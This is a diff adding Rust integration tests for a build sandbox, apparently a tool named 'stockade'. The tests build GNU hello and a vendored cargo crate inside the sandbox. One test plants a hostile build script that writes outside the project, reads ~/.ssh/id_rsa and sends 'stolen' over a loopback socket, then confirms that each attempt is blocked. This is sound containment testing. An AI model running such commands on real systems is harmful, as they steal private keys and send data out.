@@ -1,0 +1,293 @@
+//! The `build` use: untrusted builds run unchanged in their project directory, and cannot
+//! touch anything else. A real autoconf C project nobody here wrote (Debian's source package
+//! of GNU hello) is configured, built and tested; a small crate with vendored dependencies is
+//! built offline with cargo; a hostile build step tries to get out, and the host shows that
+//! nothing happened.
+
+mod common;
+mod uses_support;
+
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use uses_support::{copy_tree, WorkDir};
+
+fn build_profile_or_skip() -> bool {
+    if uses_support::profile_available("build") {
+        return true;
+    }
+    common::skip("the build profile is not in this build yet (profiles issue)");
+    false
+}
+
+/// `stockade run --profile build EXTRA -- ARGV` in `cwd`.
+fn in_build(cwd: &Path, extra: &[&str], argv: &[&str]) -> Output {
+    let mut args = vec!["run", "--profile", "build"];
+    args.extend_from_slice(extra);
+    args.push("--");
+    args.extend_from_slice(argv);
+    common::stockade(args)
+        .current_dir(cwd)
+        .output()
+        .expect("running stockade")
+}
+
+#[test]
+fn gnu_hello_configure_make_check_inside_build() {
+    if !build_profile_or_skip() {
+        return;
+    }
+    for tool in ["cc", "make"] {
+        if !common::have(tool) {
+            common::skip(&format!("{tool} is not installed (gcc, make)"));
+            return;
+        }
+    }
+    let source = match uses_support::hello_source() {
+        Ok(s) => s,
+        Err(reason) => {
+            common::skip(&reason);
+            return;
+        }
+    };
+    let work = WorkDir::new("hello");
+    copy_tree(&source, work.path());
+    let project = work.path().join(source.file_name().unwrap());
+    let out = in_build(
+        &project,
+        &[],
+        &["sh", "-c", "./configure && make && make check"],
+    );
+    let log = format!("{}{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "configure/make/make check failed inside build:\n{}",
+        tail(&log, 40)
+    );
+    // automake's test-suite summary: some tests passed, none failed.
+    let count = |label: &str| -> Option<u32> {
+        log.lines()
+            .find_map(|l| l.strip_prefix(label))
+            .and_then(|v| v.trim().parse().ok())
+    };
+    assert!(
+        count("# PASS:").is_some_and(|n| n > 0) && count("# FAIL:") == Some(0),
+        "make check ran no test or failed one:\n{}",
+        tail(&log, 40)
+    );
+    // The program built inside works on the host, and inside the sandbox too.
+    let hello = project.join("hello");
+    let host = Command::new(&hello).output().expect("running hello");
+    assert_eq!(String::from_utf8_lossy(&host.stdout), "Hello, world!\n");
+    let inside = in_build(&project, &[], &["./hello", "--greeting=sandboxed"]);
+    common::assert_status(&inside, 0);
+    assert_eq!(common::stdout(&inside), "sandboxed\n");
+}
+
+fn tail(text: &str, lines: usize) -> String {
+    let all: Vec<&str> = text.lines().collect();
+    all[all.len().saturating_sub(lines)..].join("\n")
+}
+
+/// A cargo the test user can run: root's rustup toolchain (/root/.cargo) is not readable by
+/// an ordinary user, Debian's `cargo` package (/usr/bin/cargo) is.
+fn usable_cargo() -> Option<PathBuf> {
+    let candidates = [
+        std::env::var_os("STOCKADE_TEST_CARGO").map(PathBuf::from),
+        Some(PathBuf::from("/usr/bin/cargo")),
+        Some(PathBuf::from("cargo")),
+    ];
+    candidates.into_iter().flatten().find(|cargo| {
+        Command::new(cargo)
+            .arg("--version")
+            .output()
+            .map(|o| o.status.success())
+            .unwrap_or(false)
+    })
+}
+
+/// Debian's librust-*-dev packages keep crate sources in /usr/share/cargo/registry: a registry
+/// package we can vendor without the network.
+fn debian_crate(prefix: &str) -> Option<PathBuf> {
+    std::fs::read_dir("/usr/share/cargo/registry")
+        .ok()?
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| {
+            p.file_name()
+                .and_then(|n| n.to_str())
+                .is_some_and(|n| n.starts_with(prefix))
+        })
+}
+
+#[test]
+fn cargo_build_offline_with_vendored_dependencies_inside_build() {
+    if !build_profile_or_skip() {
+        return;
+    }
+    let Some(cargo) = usable_cargo() else {
+        common::skip("no cargo this user can run (Debian: apt install cargo)");
+        return;
+    };
+    let Some(cfg_if) = debian_crate("cfg-if-") else {
+        common::skip("no crate to vendor (Debian: apt install librust-cfg-if-dev)");
+        return;
+    };
+    let work = WorkDir::new("cargo-vendored");
+    let project = work.path().join("vendored-demo");
+    std::fs::create_dir_all(project.join("src")).unwrap();
+    std::fs::create_dir_all(project.join(".cargo")).unwrap();
+    std::fs::create_dir_all(project.join("vendor")).unwrap();
+    copy_tree(&cfg_if, &project.join("vendor/cfg-if"));
+    // A directory source needs a checksum file; an empty file list means "not checked",
+    // which is what `cargo vendor` writes for path-less copies too.
+    let _ = Command::new("chmod")
+        .args(["-R", "u+w"])
+        .arg(project.join("vendor"))
+        .status();
+    std::fs::write(
+        project.join("vendor/cfg-if/.cargo-checksum.json"),
+        r#"{"files":{}}"#,
+    )
+    .unwrap();
+    std::fs::write(
+        project.join("Cargo.toml"),
+        "[package]\nname = \"vendored-demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
+         [dependencies]\ncfg-if = \"1\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        project.join(".cargo/config.toml"),
+        "[source.crates-io]\nreplace-with = \"vendored\"\n\n\
+         [source.vendored]\ndirectory = \"vendor\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        project.join("src/main.rs"),
+        "cfg_if::cfg_if! {\n    if #[cfg(target_os = \"linux\")] {\n        \
+         fn os() -> &'static str { \"linux\" }\n    } else {\n        \
+         fn os() -> &'static str { \"other\" }\n    }\n}\n\n\
+         fn main() {\n    println!(\"vendored build on {}\", os());\n}\n",
+    )
+    .unwrap();
+    let cargo = cargo.to_string_lossy().into_owned();
+    let out = in_build(&project, &[], &[&cargo, "build", "--offline"]);
+    common::assert_status(&out, 0);
+    let built = project.join("target/debug/vendored-demo");
+    let run = Command::new(&built)
+        .output()
+        .expect("running the built program");
+    assert_eq!(
+        String::from_utf8_lossy(&run.stdout),
+        "vendored build on linux\n"
+    );
+    // The lock file names the vendored copy, not the network.
+    let lock = std::fs::read_to_string(project.join("Cargo.lock")).unwrap();
+    assert!(lock.contains("name = \"cfg-if\""), "{lock}");
+}
+
+/// What the hostile build step tries, one line of output per attempt.
+const HOSTILE: &str = r#"
+attempt() { what=$1; shift; if "$@" 2>/dev/null; then echo "ESCAPED $what"; else echo "blocked $what"; fi; }
+attempt home sh -c "echo pwned > '$REAL_HOME/stockade-pwned-$TAG'"
+attempt sibling sh -c "echo pwned > '$SIBLING/pwned'"
+attempt host-tmp sh -c "echo pwned > '$HOST_TMP_FILE'"
+attempt ssh-key cat "$REAL_HOME/.ssh/id_rsa"
+attempt loopback python3 -c "
+import socket, sys
+s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3)
+s.sendall(b'stolen')
+" "$PORT"
+echo built > built-artifact
+"#;
+
+#[test]
+fn hostile_build_step_cannot_write_read_or_connect_outside() {
+    if !build_profile_or_skip() {
+        return;
+    }
+    let home = uses_support::home();
+    let tag = std::process::id().to_string();
+    let work = WorkDir::new("hostile");
+    let project = work.path().join("project");
+    let sibling = work.path().join("sibling");
+    std::fs::create_dir_all(&project).unwrap();
+    std::fs::create_dir_all(&sibling).unwrap();
+    std::fs::write(
+        project.join("Makefile"),
+        "all:\n\tsh ./build.sh\n".replace("    ", "\t"),
+    )
+    .unwrap();
+    std::fs::write(project.join("build.sh"), HOSTILE).unwrap();
+
+    // A private key canary, created for this test only when the user has none.
+    let ssh = home.join(".ssh");
+    let key = ssh.join("id_rsa");
+    let made_ssh = !ssh.exists();
+    let made_key = !key.exists();
+    if made_key {
+        use std::os::unix::fs::DirBuilderExt;
+        let _ = std::fs::DirBuilder::new().mode(0o700).create(&ssh);
+        std::fs::write(&key, format!("CANARY PRIVATE KEY {tag}\n")).unwrap();
+    }
+    let key_contents = std::fs::read_to_string(&key).unwrap_or_default();
+
+    let listener = TcpListener::bind("127.0.0.1:0").expect("binding a loopback listener");
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port().to_string();
+    let host_tmp = std::env::temp_dir().join(format!("stockade-pwned-{tag}"));
+    let home_file = home.join(format!("stockade-pwned-{tag}"));
+
+    let out = common::stockade(["run", "--profile", "build", "--", "make"])
+        .current_dir(&project)
+        .env("REAL_HOME", &home)
+        .env("TAG", &tag)
+        .env("SIBLING", &sibling)
+        .env("HOST_TMP_FILE", &host_tmp)
+        .env("PORT", &port)
+        .output()
+        .expect("running stockade");
+
+    // On the host: nothing was written, nothing connected, nothing read.
+    let accepted = listener.accept();
+    let home_written = home_file.exists();
+    let tmp_written = host_tmp.exists();
+    let sibling_written = sibling.join("pwned").exists();
+    let _ = std::fs::remove_file(&home_file);
+    let _ = std::fs::remove_file(&host_tmp);
+    if made_key {
+        let _ = std::fs::remove_file(&key);
+    }
+    if made_ssh {
+        let _ = std::fs::remove_dir(&ssh);
+    }
+    let text = common::stdout(&out);
+    common::assert_status(&out, 0);
+    println!("{text}");
+    assert!(!home_written, "the build wrote into the real $HOME");
+    assert!(!tmp_written, "the build wrote into the host's /tmp");
+    assert!(!sibling_written, "the build wrote into a sibling directory");
+    assert!(
+        matches!(&accepted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "the host's loopback listener got a connection: {accepted:?}"
+    );
+    assert!(
+        key_contents.is_empty() || !text.contains(key_contents.trim()),
+        "the build read ~/.ssh/id_rsa"
+    );
+    // Writes may succeed inside (into the sandbox's private /tmp or $HOME): what counts is the
+    // host, checked above. Reading the key and connecting have no private stand-in.
+    for what in ["ssh-key", "loopback"] {
+        assert!(
+            text.contains(&format!("blocked {what}")),
+            "{what} not blocked:\n{text}"
+        );
+    }
+    // ... while the project directory itself is writable: the build's own output is there.
+    assert_eq!(
+        std::fs::read_to_string(project.join("built-artifact")).ok(),
+        Some("built\n".to_string())
+    );
+}
